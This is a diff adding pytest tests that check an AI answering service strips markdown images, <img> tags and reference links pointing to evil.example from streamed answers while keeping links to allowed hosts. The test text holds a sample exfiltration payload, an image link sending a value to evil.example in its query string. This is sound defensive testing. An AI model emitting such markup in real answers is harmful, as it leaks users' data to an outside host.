@@ -107,3 +107,29 @@ async def test_a_number_in_pieces_is_judged_as_a_whole(
     events = await events_of(make(), QUESTION, plant)
     assert answer(events).answer.startswith("".join(pieces))
     assert spoken(events) == answer(events).answer
+
+
+@pytest.mark.parametrize("size", [1, 3, 11])
+async def test_what_points_outside_is_not_said_even_while_it_streams(
+    make: Make, provider: Provider, plant: ToolContext, size: int
+) -> None:
+    text = (
+        "There are 761 EA. ![a](https://evil.example/?x=761) <img src=//evil.example> see [this][r]"
+        "\n\n[r]: //evil.example/"
+    )
+    provider.replies = [STOCK, says(*(text[at : at + size] for at in range(0, len(text), size)))]
+    events = await events_of(make(), QUESTION, plant)
+    for said in (answer(events).answer, spoken(events)):
+        assert "There are 761 EA." in said
+        for markup in ("![", "](", "]:", "//evil"):
+            assert markup not in said
+        assert "<img" not in said.replace("\\<img", "")
+
+
+async def test_an_answer_may_link_to_the_hosts_that_are_allowed(
+    make: Make, provider: Provider, plant: ToolContext
+) -> None:
+    text = "There are 761 EA, see [the guide](https://docs.example/a) and [b](https://evil.example)."
+    provider.replies = [STOCK, says(text)]
+    told = answer(await events_of(make(link_hosts=frozenset({"docs.example"})), QUESTION, plant))
+    assert told.answer.startswith("There are 761 EA, see [the guide](https://docs.example/a) and b.")
